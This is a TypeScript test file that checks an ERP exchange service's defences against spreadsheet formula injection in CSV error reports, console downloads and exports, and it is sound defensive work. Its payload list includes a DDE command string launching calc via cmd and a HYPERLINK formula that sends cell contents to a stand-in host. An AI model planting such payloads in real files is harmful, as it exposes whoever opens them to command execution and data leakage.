import Papa from 'papaparse'
import t from 'tap'
import { csvOf } from '../../console/src/parts/csv.ts'
import { withTx } from '../../core/db/tx.ts'
import { callingErp, fileErp, sftpHouse } from '../helpers/erp-side.ts'

/** What a spreadsheet would work out, or hide the beginning of, when it stands at the start of a cell. */
const formulas: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://far.example/?"&A1;"click")',
  '+1+1',
  '-2+3',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '   +1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' ＝1+1',
  '"=1+1"',
  // Where another separator is the custom, this becomes a cell of its own.
  'x;=1+1',
  'x,=1+1',
  'x\t=1+1',
  'x|=1+1',
  'x;"=1+1',
  'x"";=1+1',
  'x\n=1+1',
  'x\r\n@SUM(1)'
]
/** What must not be touched. */
const harmless: readonly string[] = ['A-1001', 'Frame 200 mm', 'a = b', '5" pipe', 'x - y', 'user@example.com', '100%', '']

const formula = /^[\s\p{C}]*[=+\-@＝＋－＠]/u
/** What a spreadsheet swallows at the beginning of a cell. */
const swallowed = /^[\t\r\0]/

/** The cells of a file that are dangerous, as a spreadsheet of each country cuts them; `written` is the separator that is meant. */
function alive(text: string, written: string): string[] {
  const body = text.replace(/^\ufeff/, '')
  return [',', ';', '\t', '|'].flatMap(delimiter =>
    Papa.parse<string[]>(body, { delimiter, newline: '\r\n' })
      .data.flat()
      .filter(cell => formula.test(cell) || (delimiter === written && swallowed.test(cell)))
  )
}

t.test('D8 formulas', async t => {
  t.equal(alive('a,b\r\n1,"=1+1"\r\n', ',').length > 0, true, 'the test itself sees a formula')
  const at = await sftpHouse(t)
  const erp = await fileErp(t, at)

  await t.test('D8: the errors file that a person opens holds no formula, whatever a bad row named itself', async t => {
    const rows = formulas.map(text => `"${text.replaceAll('"', '""').replaceAll('\0', '')}";"${'too long '.repeat(40)}";PCE`)
    const { delivery, rejects } = await erp.file('ART_1.csv', `Article;Description;Unit\r\n${rows.join('\r\n')}\r\n`)
    t.equal(rejects.length, formulas.length)
    const text = (await erp.sftp.get(`rejected/${delivery.number}-ART_1.csv.errors.csv`)).toString()
    t.same(alive(text, ','), [])
    // Read as it was written, each key is there behind its apostrophe.
    const { data, errors } = Papa.parse<Record<string, string>>(text, { header: true, delimiter: ',', skipEmptyLines: true })
    t.same([errors, data.length], [[], formulas.length])
    t.same(
      data.map(row => row.key?.replaceAll("'", '')),
      rejects.map(({ key }) => (key ?? '').replaceAll("'", ''))
    )
    t.ok(data.filter(row => row.key?.startsWith("'=") || row.key?.startsWith("'+")).length >= 3, 'the apostrophe stands before the sign')
  })

  await t.test('D8: nor does the file of one that was refused whole, or of values in a sentence', async t => {
    const whole = await erp.file('ART_2.csv', 'Article;Description;Unit;=1+1;=1+1\r\n')
    t.equal(whole.delivery.state, 'rejected')
    t.same(alive((await erp.sftp.get(`rejected/${whole.delivery.number}-ART_2.csv.errors.csv`)).toString(), ','), [])
    const quantities = formulas
      .filter(text => !/[\r\n\0]/.test(text) && text.trim() !== '+1')
      .map((text, i) => `S${i};P1;"${text.replaceAll('"', '""')}";PCE;2026-03-02 06:00:00`)
    const stock = await erp.file('STK_1.csv', `Article;Location;Quantity;Unit;AsOf\r\n${quantities.join('\r\n')}\r\n`)
    t.equal(stock.rejects.length, quantities.length)
    t.same(alive((await erp.sftp.get(`rejected/${stock.delivery.number}-STK_1.csv.errors.csv`)).toString(), ','), [])
  })

  await t.test('D8: what the console lets a person save is quoted and disarmed by the same rule', async t => {
    const rows = [...formulas, ...harmless].map(text => ['rejected', text, text])
    const text = await csvOf(rows).text()
    t.same(alive(text, ';'), [])
    const read = Papa.parse<string[]>(text.replace(/^\ufeff/, '').replace(/\r\n$/, ''), { delimiter: ';' })
    t.same(read.errors, [])
    t.same(
      read.data.map(row => row[1]?.replaceAll("'", '')),
      rows.map(row => row[1]?.replaceAll("'", ''))
    )
    t.same(
      read.data.slice(formulas.length).map(row => row[1]),
      harmless,
      'what is no formula stays as it is'
    )
  })
})

t.test('D8 machines', async t => {
  const at = await sftpHouse(t)
  const erp = await fileErp(t, at)
  const awkward = formulas.filter(text => !/[\p{C}]/u.test(text) && text === text.trim() && text.length <= 40)

  await t.test('D8: a negative stock comes in as a number and stays one, and names are kept as they are', async t => {
    await erp.file('LOC_1.csv', 'Location;Warehouse\nP1;MAIN\n')
    const articles = awkward.map(text => `"${text.replaceAll('"', '""')}";Thing;PCE`)
    t.match((await erp.file('ART_1.csv', `Article;Description;Unit\n${articles.join('\n')}\n`)).delivery, {
      state: 'done',
      counts: { new: awkward.length }
    })
    const stock = awkward.map(text => `"${text.replaceAll('"', '""')}";P1;-5;PCE;2026-03-02 06:00:00`)
    await erp.file('STK_1.csv', `Article;Location;Quantity;Unit;AsOf\n${stock.join('\n')}\n`)
    const { items } = await erp.api<{ items: { article: string; quantity: string }[] }>('GET', '/stock?limit=200')
    t.same(items.map(({ article, quantity }) => `${quantity} ${article}`).sort(), awkward.map(text => `-5 ${text}`).sort())
  })

  /** One message with a negative quantity for each awkward name. */
  const enqueue = (ctx: typeof erp.ctx) =>
    withTx(ctx, async tx => {
      for (const text of awkward)
        await at.house.exchange.outbox.enqueue(tx, {
          kind: 'stockTransaction',
          record: { article: text, from: 'P1', quantity: { value: '-5', unit: 'PCE' }, at: tx.clock.iso() },
          orderingKey: text
        })
    })
  const named = (rows: readonly (readonly [article: string | undefined, quantity: unknown])[]) =>
    t.same(rows.map(row => row.join(' ')).sort(), awkward.map(text => `${text} -5`).sort())

  await t.test('D8: files for the ERP carry the raw value, quoted where RFC 4180 asks, and −5 as a number', async () => {
    await enqueue(erp.ctx)
    await at.house.exchange.exportDue(erp.ctx, new AbortController().signal)
    const rows: [string | undefined, string | undefined][] = []
    for (const name of await erp.sftp.names('outbox')) {
      const text = (await erp.sftp.get(`outbox/${name}`)).toString()
      const { data, errors } = Papa.parse<Record<string, string>>(text, { header: true, delimiter: ';', skipEmptyLines: true })
      t.same(errors, [])
      rows.push([data[0]?.article, data[0]?.['quantity.value']])
    }
    named(rows)
  })

  await t.test('D8: so do the documents of the web service', async () => {
    const caller = await callingErp(at, { tenant: await at.newTenant() })
    await enqueue(caller.ctx)
    await at.house.exchange.exportDue(caller.ctx, new AbortController().signal)
    const answer = await at.call<{ items: { body: { record: { article: string; quantity: { value: string } } } }[] }>(
      'GET',
      `/erp/v1/${caller.connectionId}/outbox?limit=200`,
      { token: caller.erpToken }
    )
    named(answer.body.items.map(({ body: { record } }) => [record.article, record.quantity.value] as const))
  })
})
